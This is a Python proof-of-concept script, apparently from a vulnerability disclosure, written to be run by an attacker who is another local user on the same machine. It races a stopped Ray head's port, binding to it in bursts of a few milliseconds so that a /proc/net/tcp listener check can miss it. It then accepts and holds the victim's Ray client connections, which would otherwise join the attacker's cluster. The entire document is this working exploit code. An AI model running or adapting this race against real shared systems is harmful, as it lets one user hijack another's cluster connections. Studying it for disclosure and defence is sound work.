"""Run as the attacker (another local user): listen on the port a stopped Ray head of the
victim's left in its address file, but only in short bursts, so that a check of who listens
there (/proc/net/tcp) made at one moment can miss the listener that the connection made a
moment later reaches. Prints each connection accepted (each one a victim's client that would
have joined the attacker's cluster, had a Ray head of theirs been behind the port).

    python3 ray_auto_race_mallory.py PORT SECONDS
"""

import select
import socket
import sys
import time

port, seconds = int(sys.argv[1]), float(sys.argv[2])
accepted = 0
end = time.monotonic() + seconds
held = []
while time.monotonic() < end:
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        listener.bind(("127.0.0.1", port))
    except OSError:
        listener.close()
        time.sleep(0.001)
        continue
    listener.listen(16)
    stop = time.monotonic() + 0.003
    while (left := stop - time.monotonic()) > 0:
        if select.select([listener], [], [], left)[0]:
            connection, peer = listener.accept()
            held.append(connection)
            accepted += 1
    listener.close()
    time.sleep(0.003)
print(f"accepted {accepted} connections", flush=True)
